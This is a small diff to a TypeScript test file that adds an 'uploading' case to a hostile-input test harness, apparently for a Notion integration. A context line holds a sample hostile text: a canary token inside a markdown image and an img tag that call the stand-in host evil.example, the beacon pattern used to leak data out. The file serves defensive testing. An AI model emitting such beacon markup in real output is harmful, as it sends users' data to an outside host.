@@ -14,6 +14,7 @@ import { querying } from './error-paths/querying.js';
 import { reading } from './error-paths/reading.js';
 import { BOUNDARY, RefusedCalls } from './error-paths/refused-calls.js';
 import { settingValues } from './error-paths/setting-values.js';
+import { uploading } from './error-paths/uploading.js';
 import { errorSites, sourcesBelow } from './error-sites.js';
 import { brokenEnds, hostileWorld, ids, startHostileNotion, type HostileNotion } from './hostile-notion.js';
 import { CANARY, hostileTexts } from './hostile-texts.js';
@@ -24,7 +25,7 @@ const texts = [
   `${CANARY} ![x](https://evil.example/${CANARY}.png) <img src=//evil.example>`,
 ];
 /** Each gives calls that are refused in a world whose every name is the text. */
-const subjects = { reading, querying, settingValues, changingPages, changingColumns };
+const subjects = { reading, querying, settingValues, changingPages, changingColumns, uploading };
 
 let notion: HostileNotion;
 const calls = new RefusedCalls();
